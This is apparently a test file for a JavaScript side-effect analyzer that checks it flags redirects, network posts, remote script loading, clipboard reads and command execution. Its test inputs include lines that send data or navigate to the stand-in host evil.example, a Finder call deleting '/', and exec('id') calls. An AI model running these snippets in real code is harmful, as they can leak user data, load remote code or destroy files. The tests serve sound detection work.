import { describe, expect, it } from "vitest";
import { printTarget } from "../../../src/policy/effect.ts";
import { analyze } from "../../support/analyze-code.ts";

function found(text: string): readonly string[] {
  return (analyze({ path: "a.js", text }, [])?.effects ?? []).map(
    ({ kind, target }) => `${kind} ${printTarget(target)}`,
  );
}

describe("a page that goes to another address", () => {
  it.each([
    ['location.href = "https://evil.example/";'],
    ['location.assign("https://evil.example/");'],
    ['location.replace("https://evil.example/");'],
    ['window.location.assign("https://evil.example/");'],
    ['const { location: here } = window; here.href = "https://evil.example/";'],
    ['Object.assign(location, { href: "https://evil.example/" });'],
  ])("connects to it: %s", (text) => {
    expect(found(text)).toContain('net.connect "https://evil.example/"');
  });

  it.each([
    ["hash", '"#a"'],
    ["search", '"?a"'],
    ["host", '"evil.example"'],
  ])("may connect to any by a part of it: %s", (part, value) => {
    expect(found(`location.${part} = ${value};`).join()).toMatch(/^net\.connect /u);
  });

  it.each([
    ['location = "https://evil.example/" + text;'],
    ['location += "x";'],
    ['[location] = ["https://evil.example/"];'],
    ['({ x: location } = { x: "https://evil.example/" });'],
    ['for (location of ["https://evil.example/"]);'],
    ['window.location = "https://evil.example/";'],
    ['Reflect.set(window, "location", "https://evil.example/");'],
    ['top.location.href = "https://evil.example/";'],
    ['window.open("https://evil.example/");'],
  ])("is unknown where nothing says which: %s", (text) => {
    expect(found(text)).toContain("unknown any");
  });

  it("does nothing where it only reads it, or has a name like that of its own", () => {
    expect(found("const here = location.href + location.search; export { here };")).toEqual([]);
    expect(found('let location = "a"; location = "b"; export { location };')).toEqual([]);
    expect(found("function f(location) { location.href = 1; location = 2; }")).toEqual([]);
  });
});

describe("what only pages and other engines have", () => {
  it.each([
    ['$.post("https://evil.example/", text);'],
    ['jQuery.getScript("https://evil.example/");'],
    ['axios.post("https://evil.example/", text);'],
    ['new FontFace("a", "url(https://evil.example/)").load();'],
    ['fetchLater("https://evil.example/");'],
    ["showSaveFilePicker();"],
    ['navigator.serviceWorker.register("a.js");'],
    ["navigator.clipboard.readText();"],
    ['java.lang.Runtime.getRuntime().exec("id");'],
    ['Application("Finder").delete("/");'],
    ["Bun.$`id`;"],
    ['Deno.aMemberOfALaterVersion("id");'],
    ["const { aMemberOfALaterVersion } = Deno; aMemberOfALaterVersion();"],
    ['CSS.paintWorklet.addModule("a.js");'],
  ])("is unknown: %s", (text) => {
    expect(found(text)).toContain("unknown any");
  });

  it("is not meant where the program has the name itself", () => {
    expect(found('import $ from "jquery"; $("a");').map((one) => one.split(" ")[0])).toEqual(["code.load"]);
    expect(found("const read = (load) => load; read(1);")).toEqual([]);
    expect(
      found('if (typeof Deno !== "undefined") Deno.version; CSS.escape("a"); Math.aMemberOfALaterVersion;'),
    ).toEqual([]);
    expect(found("navigator.onLine && navigator.maxTouchPoints > 1;")).toEqual([
      'sys.info "machine"',
      'sys.info "machine"',
    ]);
  });
});
